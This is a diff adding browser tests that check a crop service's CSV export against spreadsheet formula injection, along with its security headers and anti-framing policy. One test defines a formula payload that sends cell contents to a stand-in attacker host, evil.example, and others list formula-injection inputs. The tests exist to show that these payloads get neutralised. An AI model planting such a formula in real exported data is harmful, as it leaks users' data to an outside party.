@@ -10,6 +10,8 @@ Needs Debian's chromium and chromium-driver, and axe-core from npm (AXE_CORE_JS,
 var/npm/node_modules/axe-core/axe.min.js): without them the tests are skipped, except in CI.
 """
 
+import csv
+import io
 import json
 import os
 import shutil
@@ -29,6 +31,9 @@ from selenium.webdriver.common.by import By
 from selenium.webdriver.common.keys import Keys
 from selenium.webdriver.support.ui import Select, WebDriverWait
 
+from cropper.http.crops import CSV_COLUMNS
+from cropper.pages import docs_policy, page_policy
+from cropper.spreadsheets import csv_text
 from devtools.servers import NginxServer, find_nginx_or_skip
 from devtools.standin import EDGE_BOXES, MULTIPAGE_CONCEPT, boxes, uuid_for
 
@@ -509,3 +514,71 @@ def test_the_format_menu_holds_what_the_service_describes_with_its_default_chose
     assert [option.get_attribute("value") for option in page.all("#format option")] == \
         described["CropAnswer"]["properties"]["format"]["enum"]
     assert page.value("#format") == described["CropRequest"]["properties"]["format"]["default"] == "webp"
+
+
+HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A2,"Open crop")'
+
+
+def test_download_csv_hands_a_spreadsheet_no_formula(page, standin, nginx, tmp_path):
+    """A concept a hostile FathomNet names as a formula: the page's CSV, like the service's, writes it as text."""
+    standin.add_box("framegrab-1", HYPERLINK, 10, 12, 40, 30)
+    page.driver.execute_cdp_cmd("Browser.setDownloadBehavior", {"behavior": "allow", "downloadPath": str(tmp_path)})
+    page.open()
+    page.type_into("#concept-name", HYPERLINK)
+    page.el("#concept-form button").click()
+    page.wait(lambda: len(page.all("#batch-grid li")) == 1, message="the concept batch")
+    page.el("#download-csv").click()
+    page.wait(lambda: list(tmp_path.glob("crops-*.csv")), message="the CSV download")
+    downloaded = next(tmp_path.glob("crops-*.csv")).read_text()
+    assert [row[1] for row in csv.reader(io.StringIO(downloaded, newline=""))] == ["label", "'" + HYPERLINK]
+    as_csv = post(nginx, "/cropper-concept/", {"concept": HYPERLINK, "limit": 20}, headers={"Accept": "text/csv"})
+    assert downloaded == as_csv.text
+
+
+def test_the_pages_csv_writes_every_cell_as_the_service_does(page):
+    """api.js's toCsv and cropper/spreadsheets.py, cell for cell: formulas, signs, quotes, commas, CR and LF."""
+    labels = [HYPERLINK, "+1", "-2+3", "@SUM(A1:A2)", "\t=1", "\r=1", "Aegina\r=1", 'say "hi", then\nbye', "Aegina",
+              " =1", "-12"]
+    answers = [{"url": f"http://crops.test/crops/{i}.webp", "concept": label, "box_uuid": f"b{i}", "uuid": "u",
+                "region": [-12, 0, 5, 7]} for i, label in enumerate(labels)]
+    page.open()
+    in_browser = page.driver.execute_async_script(
+        "const [answers, done] = arguments;"
+        "import('/static/js/api.js').then((api) => done(api.toCsv(answers)));", answers)
+    rows = [[a["url"], a["concept"], a["box_uuid"], a["uuid"], *a["region"]] for a in answers]
+    assert in_browser == csv_text(CSV_COLUMNS, rows)
+    assert "\n'=HYPERLINK" not in in_browser and ",-12,0,5,7\n" in in_browser
+
+
+def test_each_page_is_sent_its_policy_by_nginx_and_by_gunicorn_alone(nginx, gunicorn):
+    for base in (nginx.url, gunicorn.url):
+        for path, policy in (("/", page_policy()), ("/static/js/page.js", page_policy()), ("/docs", docs_policy())):
+            answer = requests.get(f"{base}{path}", timeout=10)
+            assert answer.status_code == 200 and answer.headers["Content-Security-Policy"] == policy, (base, path)
+            assert answer.headers["X-Content-Type-Options"] == "nosniff"
+
+
+def test_the_api_reference_renders_under_its_policy(page, nginx):
+    """Redoc styles itself inline and searches in a worker: its policy lets it, and it shows the description."""
+    page.driver.get(f"{nginx.url}/docs")
+    page.wait(lambda: "FathomNet Cropper" in page.driver.find_element(By.TAG_NAME, "body").text, message="Redoc")
+    page.wait(lambda: page.all("[data-section-id]"), message="the operations")
+    refused = [e["message"] for e in page.driver.get_log("browser") if "Content Security Policy" in e["message"]]
+    assert all("'https://cdn.redoc.ly/" in message for message in refused), refused  # only its footer's logo
+
+
+def test_no_other_site_can_frame_the_page(page, nginx, tiny):
+    """frame-ancestors 'none': a page elsewhere (another origin) that frames the service's gets Chromium's
+    refusal instead."""
+    tiny.routes["/"] = (200, {"Content-Type": "text/html"}, f"<iframe src='{nginx.url}/'></iframe>".encode())
+    page.driver.get(f"{tiny.url}/")
+    page.driver.switch_to.frame(page.el("iframe"))
+    try:
+        # Loaded, the frame is Chromium's error page ("refused to connect") instead of the service's.
+        page.wait(lambda: page.js("return document.readyState") == "complete" and page.js(
+            "return location.href") != "about:blank", message="the frame")
+        assert page.js("return location.href").startswith("chrome-error://")
+        assert page.all("#open-input") == []
+    finally:
+        page.driver.switch_to.default_content()
+    assert any("frame-ancestors 'none'" in e["message"] for e in page.driver.get_log("browser"))  # and says why
